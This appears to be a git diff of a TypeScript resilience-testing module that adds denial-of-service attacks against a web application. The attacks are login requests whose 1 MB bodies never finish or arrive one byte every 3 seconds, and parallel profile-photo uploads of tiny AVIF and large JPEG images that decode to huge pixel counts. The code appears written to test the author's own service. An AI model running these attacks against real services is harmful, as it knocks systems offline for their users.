@@ -1,11 +1,52 @@
 import { type ClientRequest, request } from 'node:http'
+import sharp from 'sharp'
 import { type Attack, countResponse, keepBusy, pause, type Target } from '../lib/attack.ts'
-import { call, formHead, formType, json, signUp } from '../lib/call.ts'
+import { call, form, formHead, formType, json, signUp } from '../lib/call.ts'
+
+const length = 1024 * 1024
+const almostAll = Buffer.alloc(length - 1, 0x20)
+
+/** One body that never ends; `dripMs` apart one byte each, or all but the last byte at once. Resolves when the connection ends. */
+const unfinished = (target: Target, signal: AbortSignal, dripMs: number | null): Promise<void> =>
+  new Promise((resolve) => {
+    const sent = request(`${target.origin}/api/auth/login`, {
+      method: 'POST',
+      localAddress: target.from,
+      agent: false,
+      headers: { 'content-type': 'application/json', 'content-length': String(length), origin: target.origin },
+    })
+    target.count('opened')
+    sent.on('response', countResponse(target))
+    sent.on('error', () => undefined)
+    const drip = dripMs === null ? undefined : setInterval(() => sent.write(' '), dripMs)
+    const stop = () => sent.destroy()
+    sent.on('close', () => {
+      clearInterval(drip)
+      signal.removeEventListener('abort', stop)
+      // a closed connection is opened again
+      void pause(100, signal).then(resolve)
+    })
+    signal.addEventListener('abort', stop, { once: true })
+    sent.flushHeaders()
+    if (dripMs === null) sent.write(almostAll)
+  })
+
+export const unfinishedBodies: Attack = {
+  name: 'unfinished-bodies',
+  what: '400 JSON bodies of 1 MB without their last byte, kept open',
+  arm: async (target) => (signal) => keepBusy(400, signal, () => unfinished(target, signal, null)),
+}
+
+export const drippingBodies: Attack = {
+  name: 'dripping-bodies',
+  what: '400 JSON bodies that come one byte every 3 s',
+  arm: async (target) => (signal) => keepBusy(400, signal, () => unfinished(target, signal, 3000)),
+}
 
 type Sent = { field: string; announced: number | null; sendBytes: number; dripMs: number }
 
-/** First box of an MP4 file: enough for a server that looks at the first bytes. */
-const film = Buffer.concat([
+/** First box of an MP4 file: enough for a server that checks the first bytes. */
+const video = Buffer.concat([
   Buffer.from([0, 0, 0, 24]),
   Buffer.from('ftypisom\0\0\x02\0isomiso2'),
   Buffer.alloc(8000, 7),
@@ -53,7 +94,7 @@ function begin(target: Target, to: { path: string; cookie: string }, signal: Abo
       }
     }
     sent.on('drain', fill)
-    sent.write(Buffer.concat([formHead({ field: how.field, filename: 'lecture.mp4', type: 'video/mp4' }), film]))
+    sent.write(Buffer.concat([formHead({ field: how.field, filename: 'lecture.mp4', type: 'video/mp4' }), video]))
     fill()
     const drip = setInterval(() => sent.write('x'), how.dripMs)
     const stop = () => sent.destroy()
@@ -92,4 +133,39 @@ export const unknownField = uploads(
   '8 files of 400 MB in a field that no form has, each stopped after 50 MB',
   8,
   { field: 'somethingElse', announced: 400_000_000, sendBytes: 50_000_000, dripMs: 3000 },
+)
+
+const imageUploads = (name: string, what: string, type: string, make: () => Promise<Buffer>): Attack => ({
+  name,
+  what,
+  async arm(target) {
+    const cookie = await signUp(target.origin, target.from, `${name}@attacker.example`)
+    const file = { field: 'photoUrl', filename: 'image', type, bytes: await make() }
+    return (signal) =>
+      keepBusy(16, signal, () => target.send({ ...form('/api/user/updateprofile', file, cookie), signal }))
+  },
+})
+
+const plain = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#345' } })
+
+export const flatAvif = imageUploads(
+  'flat-avif',
+  '16 images of one account at a time: AVIF of one colour, 8000 x 6200, a few kB',
+  'image/avif',
+  () => plain(8000, 6200).avif({ effort: 0 }).toBuffer(),
+)
+
+export const largeJpeg = imageUploads('large-jpeg', 'the same with JPEG of 8000 x 5000', 'image/jpeg', () =>
+  sharp({
+    create: {
+      width: 8000,
+      height: 5000,
+      channels: 3,
+      background: '#886',
+      noise: { type: 'gaussian', mean: 128, sigma: 30 },
+    },
+  })
+    .blur(3)
+    .jpeg({ quality: 75 })
+    .toBuffer(),
 )
